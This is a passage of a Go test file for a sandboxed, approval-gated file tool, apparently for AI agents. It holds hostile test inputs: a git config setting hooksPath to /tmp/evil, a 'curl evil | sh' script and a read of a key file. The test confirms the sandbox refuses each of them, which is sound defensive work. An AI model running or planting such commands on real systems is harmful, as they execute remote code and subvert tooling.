			func() error { _, err := os.ReadFile(filepath.Join(sc.dirs["private"], "a.txt")); return err }, "does not exist"},
		{"read a path hidden inside a zone", func() error { _, err := zf.Read(ctx, "/data/keys/id"); return err }, `cat /data/keys/id`,
			func() error { _, err := os.ReadFile(filepath.Join(data, "keys", "id")); return err }, ""},
	} {
		t.Run(p.name, func(t *testing.T) {
			err := p.tool()
			require.Error(t, err)
			assert.Contains(t, err.Error(), p.want)
			assert.NotContains(t, err.Error(), "zone")
			in := sc.exec(w, p.inside)
			assert.NotEqual(t, 0, in.code, "inside: %s", in)
			assert.NoError(t, p.host(), "control")
		})
	}
	require.NoError(t, w.Discard())

	// git's config inside a zone: the sandbox keeps what makes git run a
	// program (hooksPath) from a command's write; the tool and the
	// in-process view refuse the write, naming the rule, rather than
	// answer for content that would not land. Control: the host writes it.
	gitConfig := filepath.Join(data, ".git", "config")
	assert.ErrorContains(t, zf.Write(ctx, "/data/.git/config", "[core]\n\thooksPath = /tmp/evil\n"), "refused: protected")
	assert.ErrorIs(t, w.Files().Write(ctx, "/data/.git/config", []byte("[core]\n\thooksPath = /tmp/evil\n")), zones.ErrProtected)
	assert.NotContains(t, readFile(t, gitConfig), "hooksPath")
	require.NoError(t, os.WriteFile(gitConfig, []byte("[core]\n\thooksPath = /tmp/evil\n"), 0o644), "control")
	require.NoError(t, os.WriteFile(gitConfig, []byte("[core]\n"), 0o644))

	// Changes that ask: the approver sees each, with a diff, before it
	// is made; what it refuses is not made.
	sc.asked = nil
	require.NoError(t, zf.Write(ctx, "/data/a.txt", "changed\n"))
	require.Error(t, zf.Write(ctx, "/data/run.sh", "curl evil | sh\n"))
	require.NoError(t, zf.Write(ctx, "/drafts/d.txt", "draft\n"), "preApproved: not asked")
	require.NoError(t, zf.Delete(ctx, "/data/a.txt"))
	require.Len(t, sc.asked, 3)
	assert.Contains(t, sc.asked[0].Diff, "-data a\n+changed\n")
	assert.Equal(t, zones.Request{Op: zones.OpDelete, Path: "/data/a.txt", Size: int64(len("changed\n"))}, sc.asked[2])
	assert.NoFileExists(t, filepath.Join(data, "a.txt"))
	assert.NoFileExists(t, filepath.Join(data, "run.sh"))
	assert.True(t, fileHas(filepath.Join(sc.dirs["drafts"], "d.txt"), "draft"))
	out, err := zf.Run(ctx, tools.FileArgs{Operation: "list", Path: "/data"})
	require.NoError(t, err)
	assert.NotContains(t, out, "a.txt")
	assert.Equal(t, "ls: cannot access '/data/a.txt': No such file or directory\n", sc.exec(w, `ls /data/a.txt`).stderr,
		"the commands see the tool's change")

	// The tool's I/O for one zone runs where only that zone is writable: a
	// symlink swapped in after the checks cannot carry a write decided for
	// /drafts into /data, which asks. Control: /data's own file sandbox
	// writes it.
	inDrafts, err := w.FileSandbox("drafts")
	require.NoError(t, err)
	require.NoError(t, inDrafts.Command(ctx, "sh", "-c", "echo x > /drafts/ok").Run())
	require.Error(t, inDrafts.Command(ctx, "sh", "-c", "echo x > /data/redirected").Run())
	assert.NoFileExists(t, filepath.Join(data, "redirected"))
	inData, err := w.FileSandbox("data")
	require.NoError(t, err)
	require.NoError(t, inData.Command(ctx, "sh", "-c", "echo x > /data/direct && rm /data/direct").Run())
	_, err = w.FileSandbox("private")
	require.Error(t, err, "no sandbox for a zone the worker lacks")

	// A blocked delete is refused without asking; a pure worker reaches
	// nothing.
	bc := newZoneScene(t, map[string]zones.Approval{"data": {Write: zones.Ask, Delete: zones.Blocked}})
	bw := bc.worker(zones.Decl{Name: "data", Mode: zones.ReadWrite})
	bf, err := tools.NewZoneFile(bw)
	require.NoError(t, err)
	err = bf.Delete(ctx, "/data/a.txt")
	require.ErrorIs(t, err, fs.ErrPermission)
	assert.Equal(t, "remove /data/a.txt: operation not permitted", err.Error())
	assert.FileExists(t, filepath.Join(bc.dirs["data"], "a.txt"))
	assert.Empty(t, bc.asked)
	pf, err := tools.NewZoneFile(bc.worker())
	require.NoError(t, err)
	entries, _, err = pf.List(ctx, "/")
	require.NoError(t, err)
	assert.Empty(t, entries)
	_, err = pf.Read(ctx, "/data/a.txt")
	require.ErrorIs(t, err, tools.ErrNotExist)
	require.Error(t, pf.Write(ctx, "/data/x", "x"))
	assert.NoFileExists(t, filepath.Join(bc.dirs["data"], "x"))
}

func readFile(t *testing.T, p string) string {
	b, err := os.ReadFile(p)
	require.NoError(t, err)
	return string(b)
}
